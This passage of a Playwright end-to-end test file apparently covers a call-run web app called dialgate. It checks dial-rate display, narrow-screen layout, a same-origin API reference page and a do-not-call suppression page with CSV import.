      .toBe('completed');
    await page.goto(`${stack.apiUrl}/#/runs/${runId}`);
    await waitForStatus(['completed']);
    await expect
      .poll(() => page.locator('#dial-rate').textContent(), { timeout: 10_000 })
      .toMatch(/^\d+\.\d$/);
    // Seven dialed: the invalid number's create was sent too (and refused).
    expect(await page.locator('#rate-detail').textContent()).toMatch(
      /^The run's average: 7 calls dialed in /,
    );
    const peak = /Peak: (\d) of 3 slots/.exec((await page.locator('#rate-peak').textContent()) ?? '');
    expect(Number(peak?.[1])).toBeGreaterThan(0);
    expect(Number(peak?.[1])).toBeLessThanOrEqual(stack.simulator!.stats().runs[runId]!.maxLive);
    const headers = await page.locator('#calls-table thead th').allTextContents();
    expect(headers).toContain('Status');
    expect(headers).not.toContain('Outcome');
    await expect
      .poll(() => page.locator('#calls-table tbody').textContent())
      .toContain('failed: rejected (21211)');
    await shot('12-run-finished');
  });

  test('at 420 px wide (a phone) nothing scrolls sideways', async () => {
    const { body } = await api('POST', '/runs', {
      concurrency: 3,
      leads: [...phones(5), INVALID_NUMBER].map((phone) => ({ phone, name: 'A lead with a long name' })),
    });
    await page.setViewportSize({ width: 420, height: 900 });
    try {
      // How far the page scrolls sideways (the test's own tsconfig has no DOM types: a string expression).
      const overflow = () =>
        page.evaluate<number>('document.documentElement.scrollWidth - document.documentElement.clientWidth');
      await page.goto(`${stack.apiUrl}/#/`);
      await expect.poll(() => page.locator('#runs-list table').count(), { timeout: 10_000 }).toBe(1);
      expect(await overflow()).toBe(0);
      await shot('13-narrow-runs');
      await page.goto(`${stack.apiUrl}/#/runs/${body.run_id}`);
      await waitForStatus(['completed']);
      await expect
        .poll(() => page.locator('#calls-table caption').textContent(), { timeout: 10_000 })
        .toMatch(/^6 calls shown/);
      expect(await overflow()).toBe(0);
      await page.locator('#connection summary').click();
      expect(await overflow()).toBe(0);
      await shot('14-narrow-run');
    } finally {
      await page.setViewportSize({ width: 1366, height: 900 });
    }
  });

  test('the API reference page renders the API document, from this origin only', async () => {
    const outside: string[] = [];
    const note = (url: string) => {
      if (!url.startsWith(stack.apiUrl) && !url.startsWith('data:')) outside.push(url);
    };
    page.on('request', (request) => note(request.url()));
    await page.goto(`${stack.apiUrl}/#/`);
    await page.getByRole('link', { name: 'API reference' }).click();
    await page.waitForURL(/\/reference\.html$/);
    // Redoc renders the document: its title, then a tag of the navigation opened on an operation.
    await page.getByRole('heading', { name: 'dialgate (0.1.0)' }).waitFor({ timeout: 30_000 });
    expect(await page.locator('#reference').textContent()).toContain('/runs/{run_id}/calls');
    await page.getByText('runs', { exact: true }).first().click();
    await page.getByText('Start a run').first().click();
    await page.getByRole('heading', { name: 'Start a run' }).waitFor({ timeout: 30_000 });
    await page.getByText('Idempotency-Key', { exact: true }).waitFor({ timeout: 30_000 });
    await shot('15-api-reference');
    page.removeAllListeners('request');
    // Redoc's own logo points at its CDN; the page's policy blocks it (img-src 'self'), so nothing comes
    // from there. Anything else (its usage reports to Redocly, say) is a failure.
    expect(outside.filter((url) => !/^https:\/\/cdn\.redoc\.ly\/redoc\/logo/.test(url))).toEqual([]);
  });

  test('the suppression page: add, search, import a CSV (bad line named, nothing imported), remove', async () => {
    const [added, first, second] = phones(3) as [string, string, string];
    await page.goto(`${stack.apiUrl}/#/suppressions`);
    await page.getByLabel('Phone number', { exact: true }).fill(added);
    await page.getByLabel('Reason (optional)').fill('complaint');
    await page.getByRole('button', { name: 'Suppress' }).click();
    await expect
      .poll(() => page.locator('#suppress-result').textContent())
      .toContain(`${added} is suppressed (complaint)`);

    // A number the API refuses: its reason, on the page.
    await page.getByLabel('Phone number', { exact: true }).fill('+1 555');
    await page.getByRole('button', { name: 'Suppress' }).click();
    await expect.poll(() => page.locator('#suppress-result [role="alert"]').textContent()).toContain('phone');

    // An import with a bad line: the line is named and nothing is stored.
    await page.getByLabel(/Numbers \(CSV/).setInputFiles({
      name: 'dnc.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(`phone,reason\n${first},dnc-registry\nnot-a-number,x\n`),
    });
    await page.getByRole('button', { name: 'Import' }).click();
    await expect.poll(() => page.locator('#import-result [role="alert"]').textContent()).toContain('line 3');
    expect((await api('GET', `/suppressions/${encodeURIComponent(first)}`)).status).toBe(404);
    await page.getByLabel(/Numbers \(CSV/).setInputFiles({
      name: 'dnc.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(`phone,reason\n${first},dnc-registry\n${second},dnc-registry\n`),
    });
    await page.getByRole('button', { name: 'Import' }).click();
    await expect.poll(() => page.locator('#import-result').textContent()).toContain('2 numbers suppressed');

    // Search by the first digits: the three numbers, and nothing of another prefix.
    await page.getByLabel('Numbers starting with').fill(added.slice(0, 9));
    await page.getByRole('button', { name: 'Search' }).click();
    const rows = page.locator('#suppressions-table tbody tr');
    await expect
      .poll(async () =>
        (await rows.evaluateAll((trs) => trs.map((tr) => tr.getAttribute('data-phone')))).sort(),
      )
      .toEqual([added, first, second].sort());
    await shot('16-suppressions');

    await page.getByRole('button', { name: `Remove ${added}` }).click();
    await expect
      .poll(() => page.locator('#suppress-result').textContent())
      .toContain(`${added} may be called again`);
    await expect.poll(() => rows.count()).toBe(2);
    expect((await api('GET', `/suppressions/${encodeURIComponent(added)}`)).status).toBe(404);
    expect((await api('GET', `/suppressions/${encodeURIComponent(first)}`)).status).toBe(200);
  });

  test('no script error on any page', () => {
    expect(pageErrors).toEqual([]);
  });
});
